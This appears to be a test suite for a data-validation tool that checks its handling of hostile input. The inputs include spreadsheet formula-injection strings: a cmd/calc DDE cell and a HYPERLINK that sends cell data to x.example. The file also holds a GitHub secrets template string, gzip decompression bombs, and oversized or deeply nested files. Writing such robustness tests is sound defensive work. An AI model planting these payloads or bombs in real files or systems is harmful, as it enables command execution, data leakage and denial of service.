import { spawnSync } from 'node:child_process'
import { chmodSync, closeSync, openSync, readFileSync, statSync, writeFileSync, writeSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { stringify } from 'yaml'
import { literal } from '../../shared/data/engine/sql.js'
import { fakeContext } from '../support/context.js'
import { attack, MARK, PAYLOADS } from '../support/hostile.js'
import { workspace } from '../support/run-bundle.js'

let it: ReturnType<typeof workspace>
beforeEach(() => {
  it = workspace()
})
afterEach(() => it.remove())

const onPosix = process.platform === 'win32' ? test.skip : test
const times = <T>(n: number, make: (i: number) => T): T[] => Array.from({ length: n }, (_, i) => make(i))
const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`
const write = (name: string, content: string | Uint8Array): void => writeFileSync(join(it.path, name), content)
const readText = (name: string): string => readFileSync(join(it.path, name), 'utf8')
const configure = (data: Record<string, unknown>): void => write('plumbline.yml', stringify({ model: 'm', data }))

/** Runs the stage; nothing but its code and words may come of hostile data. */
async function validate(env: Record<string, string> = {}) {
  const run = await attack('validate-data', { cwd: it.path, env, timeoutSeconds: 200 })
  expect(run.offences).toEqual([])
  expect(run.signal).toBeNull()
  return { ...run, said: run.annotations.map(({ message }) => message).join('\n') }
}

/** One file as training data that cannot be read, and what is said of it. */
async function refused(name: string): Promise<string> {
  configure({ train: name })
  const run = await validate()
  expect({ code: run.code, verdict: run.outputs.verdict }).toEqual({ code: 1, verdict: 'error' })
  expect(run.said).toContain('→')
  return run.said
}

/** A file of n pieces, which is never in memory as a whole. */
function writePieces(name: string, head: string, piece: string | Uint8Array, n: number): void {
  const file = openSync(join(it.path, name), 'w')
  try {
    writeSync(file, head)
    for (let i = 0; i < n; i++) typeof piece === 'string' ? writeSync(file, piece) : writeSync(file, piece)
  } finally {
    closeSync(file)
  }
}

/** Cells that a spreadsheet computes (OWASP, CSV injection), and texts that become something else elsewhere. */
const FORMULAS = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://x.example/?"&A1,"${MARK}")`,
  '@SUM(1+1)*cmd',
  '+1+1',
  '-2+3',
  '\t=1',
  `$\{{ secrets.GITHUB_TOKEN }}`,
]
const TEXTS = [...new Set([...FORMULAS, ...PAYLOADS])]

describe('texts that are commands elsewhere', () => {
  const header = ['id', 'kind', ...TEXTS.filter((text) => !text.includes('\u0085') && text.length < 500)]
  const rows = times(200, (i) =>
    header.map((_, j) => (j === 0 ? `r${i}` : (TEXTS[(i * 11 + j) % TEXTS.length] as string))),
  )
  const data = [header, ...rows].map((row) => row.map(cell).join(',')).join('\n')

  beforeEach(() => {
    write('train.csv', `${data}\n`)
    write('test.csv', `${data}\n`)
  })

  test('as names and values, with rules that they break', async () => {
    const columns = header
      .slice(1)
      .map((name) => ({ name, type: 'string', values: ['a', ...TEXTS], length: { max: 2 } }))
    write('c.yml', stringify({ schema: 'plumbline.data-contract/1', key: [header[1]], columns }))
    configure({
      train: 'train.csv',
      test: 'test.csv',
      target: 'kind',
      id: 'id',
      contract: 'c.yml',
      slices: header.slice(2, 6),
    })
    const run = await validate()
    expect(run.outputs.verdict).toBe('fail')
    const { datasets } = JSON.parse(readText('.plumbline/data-profile.json'))
    expect(datasets[0].columns.map(({ name }: { name: string }) => name)).toEqual(header)
  })

  test('as everything that a contract says', async () => {
    const checks = TEXTS.flatMap((name) => [
      { check: 'values', column: 'kind', values: [name], name: name.slice(0, 200) },
      { check: 'pattern', column: 'kind', patterns: [name.replace(/[!-/:-@[-`{-~]/g, '\\$&')], name: 'p' },
      { check: 'compare', columns: ['kind', 'id'], operator: '=', where: `kind <> '${name.replaceAll("'", "''")}'` },
    ])
    write(
      'c.yml',
      stringify({
        schema: 'plumbline.data-contract/1',
        columns: [{ name: 'kind', description: TEXTS.join(' ') }],
        checks,
      }),
    )
    configure({ train: 'train.csv', contract: 'c.yml' })
    const run = await validate()
    expect({ verdict: run.outputs.verdict, mistakes: run.said.includes('mistakes') }).toEqual({
      verdict: 'fail',
      mistakes: false,
    })
  })

  test('as a column that no check can have, and mistakes in every key', async () => {
    const checks = TEXTS.map((column) => ({ check: 'values', column: `no ${column}`, values: ['a'] }))
    write('c.yml', stringify({ schema: 'plumbline.data-contract/1', checks }))
    configure({ train: 'train.csv', contract: 'c.yml' })
    expect((await validate()).outputs.verdict).toBe('fail')
    write(
      'c.yml',
      stringify({ schema: 'plumbline.data-contract/1', ...Object.fromEntries(TEXTS.map((text) => [text, text])) }),
    )
    expect((await validate()).outputs.verdict).toBe('error')
    write(
      'c.yml',
      stringify({ schema: 'plumbline.data-contract/1', columns: TEXTS.map((name) => ({ name, type: name })) }),
    )
    expect((await validate()).outputs.verdict).toBe('error')
  })

  test('rows that break a rule keep their text in the list of bad rows: it is data, no sheet', async () => {
    write('c.yml', stringify({ schema: 'plumbline.data-contract/1', columns: [{ name: 'kind', values: ['a'] }] }))
    configure({ train: 'train.csv', contract: 'c.yml', id: 'id' })
    const run = await validate()
    expect(run.outputs['bad-rows']).toMatch(/\.parquet$/)
    const fake = await fakeContext()
    try {
      const engine = await fake.ctx.data()
      const path = literal(join(it.path, run.outputs['bad-rows'] as string))
      const kept = await engine.all(`SELECT DISTINCT value FROM read_parquet(${path})`)
      expect(kept.map(({ value }) => value)).toEqual(expect.arrayContaining(FORMULAS))
    } finally {
      await fake.cleanup()
    }
  })
})

describe('files without an end', () => {
  test('a line of 200 MB: CSV, JSON Lines', async () => {
    writePieces('long.csv', 'a,b\n1,', 'x'.repeat(1 << 20), 200)
    expect(await refused('long.csv')).toContain('long.csv: line 2 is longer than 8 MB')
    writePieces('long.jsonl', '{"a":"', 'x'.repeat(1 << 20), 200)
    expect(await refused('long.jsonl')).toContain('long.jsonl: line 1 is longer than 16 MB')
  })

  test('a header of a million columns', async () => {
    write('wide.csv', `${times(1_000_000, (i) => `c${i}`).join(',')}\n`)
    expect(await refused('wide.csv')).toContain('wide.csv has 1,000,000 columns, more than 10,000')
  })

  test('JSON of 100,000 levels is text, and judged', async () => {
    write('deep.jsonl', times(30, () => `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`).join('\n'))
    configure({ train: 'deep.jsonl' })
    expect((await validate()).outputs.verdict).toBe('warn')
    write('deep.jsonl', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}\n`)
    expect((await validate()).outputs.verdict).toBe('warn')
    write('deep.json', `[${'['.repeat(100_000)}${']'.repeat(100_000)}]`)
    expect(await refused('deep.json')).toContain('deep.json')
  })

  // Members of gzip may stand one after the other: 10 MB that unpack to 10 GB.
  const bomb = (name: string, head: string, line: string) => {
    const member = gzipSync(line.repeat(Math.ceil(10_000_000 / line.length)), { level: 9 })
    writePieces(name, '', Buffer.concat([gzipSync(head), member]), 1)
    const file = openSync(join(it.path, name), 'a')
    for (let i = 1; i < 1000; i++) writeSync(file, member)
    closeSync(file)
    expect(statSync(join(it.path, name)).size).toBeLessThan(30_000_000)
  }

  test.each([
    ['one line', 'bomb.csv.gz', 'a,b\n1,', 'x', 'line 2 is longer than 8 MB'],
    ['rows', 'bomb.csv.gz', 'a,b\n', '1,2\n', 'bomb.csv.gz unpacks to more than 250 times its size'],
    ['rows of JSON', 'bomb.jsonl.gz', '', '{"a":1}\n', 'bomb.jsonl.gz unpacks to more than 250 times its size'],
  ])('10 GB of %s in a .gz', async (_, name, head, line, says) => {
    bomb(name, head, line)
    expect(await refused(name)).toContain(says)
  })
})

describe('a machine that does not help', () => {
  const header = 'id,x,kind'
  const rows = (n: number) => times(n, (i) => `r${i},${(i * 7919) % 1000},${i % 3 ? 'a' : 'b'}`).join('\n')
  const wrap = (script: string): string => {
    write('node.sh', `#!/bin/sh\n${script}\n`)
    chmodSync(join(it.path, 'node.sh'), 0o755)
    return join(it.path, 'node.sh')
  }

  onPosix('no room for a file: 0, 8 and 16 blocks of 512 bytes', async () => {
    write('train.csv', `${header}\n${rows(20_000)}\n`)
    write('c.yml', stringify({ schema: 'plumbline.data-contract/1', columns: [{ name: 'x', range: { max: 500 } }] }))
    configure({ train: 'train.csv', contract: 'c.yml' })
    for (const blocks of [0, 8, 16]) {
      const node = wrap(`ulimit -f ${blocks}; trap '' XFSZ; exec "${process.execPath}" "$@"`)
      const run = await attack('validate-data', { cwd: it.path, node })
      expect({ blocks, offences: run.offences }).toEqual({ blocks, offences: [] })
      expect({ blocks, code: run.code }).toEqual({ blocks, code: 1 })
      expect(run.stdout).toMatch(/::error.*(?:cannot be written|the disk is full)/)
    }
    // Once there is room again, the next run finds nothing in its way.
    expect((await validate()).outputs.verdict).toBe('fail')
  })

  onPosix('killed at any moment, the next run does the whole work', async () => {
    write('train.csv', `${header}\n${rows(200_000)}\n`)
    write('c.yml', stringify({ schema: 'plumbline.data-contract/1', columns: [{ name: 'x', range: { max: 500 } }] }))
    configure({ train: 'train.csv', contract: 'c.yml', target: 'kind' })
    expect((await validate()).outputs.verdict).toBe('fail')
    const document = (): unknown => {
      const { createdAt, inputs, ...rest } = JSON.parse(readText('.plumbline/data-validation.json'))
      return { ...rest, inputs: inputs.map(({ name }: { name: string }) => name) }
    }
    const whole = document()
    for (const tenths of [1, 3, 5, 7, 10, 14]) {
      const seconds = (tenths / 10).toFixed(1)
      const node = wrap(
        `"${process.execPath}" "$@" & pid=$!; sleep ${seconds}; kill -9 $pid 2>/dev/null; wait $pid; exit 0`,
      )
      await attack('validate-data', { cwd: it.path, node })
      const run = await validate()
      expect(run.outputs.verdict).toBe('fail')
      expect(document()).toEqual(whole)
    }
  })

  const asNobody = process.getuid?.() === 0 && spawnSync('setpriv', ['--version']).status === 0 ? onPosix : test.skip
  asNobody('a run directory that may not be written', async () => {
    write('train.csv', `${header}\n${rows(300)}\n`)
    configure({ train: 'train.csv' })
    chmodSync(it.path, 0o555)
    const node = wrap(`exec setpriv --reuid=65534 --regid=65534 --clear-groups "${process.execPath}" "$@"`)
    const run = await attack('validate-data', { cwd: it.path, node })
    expect(run.offences).toEqual([])
    expect(run.code).toBe(1)
    expect(run.stdout + run.stderr).toMatch(/\.plumbline/)
  })
})
